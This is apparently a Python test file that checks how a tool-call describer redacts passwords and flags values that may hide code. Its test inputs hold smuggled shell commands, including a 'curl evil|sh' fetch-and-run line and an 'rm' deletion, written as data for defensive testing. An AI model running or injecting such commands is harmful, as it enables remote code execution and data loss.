"""What an editor shows of a tool call."""

from __future__ import annotations

from amplifier_acp.tool_calls import describe_call


def test_code_in_the_place_of_a_secret_is_told() -> None:
    told = describe_call("1", "bash", {"command": "make PASSWORD='x;curl evil|sh'", "password": "a;b c"}, "/work")
    assert told["rawInput"] == {"command": "make PASSWORD='[REDACTED, MAY BE CODE]'", "password": "[REDACTED]"}


def test_code_in_the_place_of_a_secret_is_told_at_any_depth() -> None:
    given = {"command": ["PASSWORD=x;rm y"], "server": {"env": {"ARGS": "PASSWORD='x;rm y'"}}}
    command, env = "PASSWORD=[REDACTED, MAY BE CODE] y", "PASSWORD='[REDACTED, MAY BE CODE]'"
    told = describe_call("1", "start", given, "/work")
    assert told["rawInput"] == {"command": [command], "server": {"env": {"ARGS": env}}}
